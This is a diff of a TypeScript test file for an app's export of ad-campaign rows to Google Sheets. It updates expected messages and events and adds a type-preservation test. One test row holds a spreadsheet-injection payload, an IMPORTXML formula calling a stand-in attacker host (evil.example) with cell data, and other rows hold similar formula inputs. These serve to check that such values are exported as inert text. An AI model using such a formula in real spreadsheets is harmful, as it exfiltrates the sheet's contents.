@@ -5,6 +5,7 @@ import { googleCampaigns } from '#shared/contracts/insights.ts';
 import { listNotifications } from '#shared/contracts/notifications.ts';
 import type { Notification } from '#shared/contracts/notifications.ts';
 import { listAdAccounts } from '#shared/contracts/adAccounts.ts';
+import { insightColumns } from '#shared/insightColumns.ts';
 import { defaultRange, utcDay } from '#shared/lib/dateRange.ts';
 import { updateProfile } from '#shared/contracts/users.ts';
 import { messages } from '#shared/messages.ts';
@@ -139,7 +140,11 @@ describe('who may export', () => {
     const ended = await post(person, [{ name: 'Ada Example' }]);
     expect([ended.status, ended.body]).toEqual([
       409,
-      { success: false, message: messages.connections.reconnect('google'), code: 'RECONNECT_NEEDED' },
+      {
+        success: false,
+        message: messages.exports.goesOnAfterReconnect(messages.connections.reconnect('google')),
+        code: 'RECONNECT_NEEDED',
+      },
     ]);
     expect(await countSheets()).toBe(sheetsBefore);
   });
@@ -215,9 +220,12 @@ describe('posted rows', () => {
       ['=IMPORTXML("http://evil.example/?"&A1)', '+49170555', '120210987654321098', '@cmd', '007', 12.5, true],
       ['-1+1', '', '1', 'NUL \ufffd 😀', '1/2', -3, false, '', 0],
     ]);
-    // The lead screens have no platform, so no event of one follows.
-    expect((await notificationsOf(person)).map(({ event }) => event)).toEqual(['google_connected']);
-    expect(socket.received).toEqual([]);
+    // The lead screens have no platform, so the end is told by an event of its own.
+    expect(await nextEvent(socket, 'list_export_complete')).toMatchObject({ url, error: null, exportId: body.data.id });
+    expect((await notificationsOf(person)).map(({ event }) => event)).toEqual([
+      'google_connected',
+      'list_export_complete',
+    ]);
   });
 
   test('empty ones and too many are refused readably', async () => {
@@ -288,12 +296,40 @@ describe('a click on Export in Preview', () => {
     });
     const [sheet] = (await sheetOf(body.data.id)).sheets;
     expect(sheet?.rows[0]).toEqual(expect.arrayContaining(['Date', 'Campaign ID', 'Spend']));
-    expect(sheet?.rows.slice(1)).toEqual(rows.map((row) => Object.values(row)));
+    const keys = insightColumns.google.map(({ key }) => key);
+    expect(sheet?.rows.slice(1)).toEqual(rows.map((row) => keys.map((key) => row[key])));
     expect(sheet?.values.slice(1)).toEqual(
-      rows.map((row) => Object.entries(row).map(([key, value]) => (key === 'date' ? serialDay(String(value)) : value))),
+      rows.map((row) => keys.map((key) => (key === 'date' ? serialDay(String(row[key])) : row[key]))),
     );
     expect(sheet?.formats.map(({ range: cells, format }) => [cells, format])).toEqual(
       expect.arrayContaining([['Export!A2:A24', { numberFormat: { type: 'DATE', pattern: 'yyyy-mm-dd' } }]]),
+    );
+  });
+
+  test('keeps every kind of value: ids and zeros as text, days and money as numbers, formulas as words', async () => {
+    const person = await newPerson('google');
+    const row = {
+      date: '2026-11-21',
+      customerName: '=1+1',
+      customerId: '0012345678',
+      campaignName: '+49170555',
+      campaignId: '120210987654321098',
+      campaignStatusLabel: '@cmd',
+      adsetName: 'مرحبا بالعالم',
+      adsetId: '007',
+      adsetStatusLabel: '-2',
+      adId: '1e5',
+      adStatusLabel: '👩‍👩‍👧 é\nline',
+      spend: 1234.56,
+      clicks: 12,
+      impressions: 98765,
+      leads: 2.5,
+    };
+    const { body } = await post(person, { data: [row] }, `google:${Date.now()}`);
+    const [sheet] = (await sheetOf(body.data.id)).sheets;
+    expect(sheet?.formulas).toEqual([]);
+    expect(sheet?.values[1]).toEqual(
+      insightColumns.google.map(({ key }) => (key === 'date' ? serialDay(row.date) : row[key])),
     );
   });
 
